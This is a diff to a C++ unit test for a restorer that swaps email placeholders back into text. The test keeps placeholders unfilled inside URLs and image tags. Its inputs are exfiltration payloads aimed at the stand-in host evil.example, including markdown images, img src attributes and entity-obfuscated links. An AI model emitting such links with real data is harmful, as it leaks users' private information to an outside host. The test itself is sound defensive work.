@@ -61,20 +61,42 @@ TEST(Restorer, PutsBackWhereverThePiecesAreCut) {
 TEST(Restorer, LeavesPlaceholdersInAddresses) {
   Vault vault;
   vault.placeholder("pii.email", "a@x.org");
-  for (const char* text :
-       {"![x](https://evil.example/[EMAIL_1].png) ", "[x](/p?[EMAIL_1]) ", "[x](<a) [EMAIL_1]>) ",
-        "[x](a(b)[EMAIL_1]) ", "[x](a\\)[EMAIL_1]) ", "see https://evil.example/?q=[EMAIL_1] ",
-        "https:\\\\evil.example\\[EMAIL_1] ", "evil.example/[EMAIL_1] ",
-        "www.[EMAIL_1].evil.example ", "<https://evil.example/[EMAIL_1]> ",
-        "[r]: //evil.example/[EMAIL_1] ", "<img src=\"https://evil.example/[EMAIL_1]\"> ",
-        "<img alt='>' src=/[EMAIL_1]> ", "<img src='x\n\n[EMAIL_1]'> ",
-        "<a href=\"mailto:[EMAIL_1]\">"}) {
+  for (const char* text : {"![x](https://evil.example/[EMAIL_1].png) ",
+                           "[x](/p?[EMAIL_1]) ",
+                           "[x](<a) [EMAIL_1]>) ",
+                           "[x](a(b)[EMAIL_1]) ",
+                           "[x](a\\)[EMAIL_1]) ",
+                           "see https://evil.example/?q=[EMAIL_1] ",
+                           "https:\\\\evil.example\\[EMAIL_1] ",
+                           "evil.example/[EMAIL_1] ",
+                           "www.[EMAIL_1].evil.example ",
+                           "<https://evil.example/[EMAIL_1]> ",
+                           "[r]: //evil.example/[EMAIL_1] ",
+                           "<img src=\"https://evil.example/[EMAIL_1]\"> ",
+                           "<img alt='>' src=/[EMAIL_1]> ",
+                           "<img src='x\n\n[EMAIL_1]'> ",
+                           "<a href=\"mailto:[EMAIL_1]\">",
+                           "[r]: https:&#47;&#47;evil&#46;example&#47;[EMAIL_1] ",
+                           "[r]:\nhttps&colon;evil[EMAIL_1] ",
+                           "[r]: < a\\> [EMAIL_1]> ",
+                           "http:/1/[EMAIL_1] ",
+                           "url(https:evil[EMAIL_1] ",
+                           "ftp:1[EMAIL_1] "}) {
     const std::string answer = std::string(text) + "[EMAIL_1], ([EMAIL_1])";
     for (size_t piece = 1; piece <= answer.size(); ++piece) {
       ASSERT_EQ(restore(vault, answer, Restorer::Form::text, piece),
                 std::string(text) + "a@x.org, (a@x.org)")
           << piece;
     }
+  }
+}
+
+TEST(Restorer, PutsBackWhatNoAddressHolds) {
+  Vault vault;
+  vault.placeholder("pii.email", "a@x.org");
+  for (const char* text : {"[To]: ", "[1]: mail ", "[To]:\n\n", "https: ", "a[0]: <b> "}) {
+    EXPECT_EQ(restore(vault, std::string(text) + "[EMAIL_1], [EMAIL_1]", Restorer::Form::text, 1),
+              std::string(text) + "a@x.org, a@x.org");
   }
 }
 
